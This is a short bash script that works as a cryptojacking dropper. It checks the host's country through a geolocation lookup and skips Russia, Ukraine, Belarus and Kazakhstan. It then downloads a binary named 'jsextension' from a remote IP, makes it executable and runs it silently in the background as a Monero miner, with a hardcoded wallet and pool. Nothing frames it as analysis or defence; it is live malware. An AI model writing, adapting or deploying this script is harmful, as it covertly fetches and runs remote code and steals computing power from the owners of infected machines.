#!/bin/bash
IP=$(curl -k https://geo.example.org/json/ 2>/dev/null | grep -o '"country":"[^"]*"' | cut -d'"' -f4)
if [[ "$IP" != "RU" && "$IP" != "UA" && "$IP" != "BY" && "$IP" != "KZ" ]]; then
  if ! pgrep -x jsextension > /dev/null; then
    curl -s http://198.51.100.27/download/jsextension -o jsextension 2>/dev/null || wget -q http://198.51.100.27/download/jsextension -O jsextension
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.minexmr.example.net:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPWtHLFAJdQ8yPt3ALJdgy1YxJ6fhGvGqN3C7A2nT6nL4Gq --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
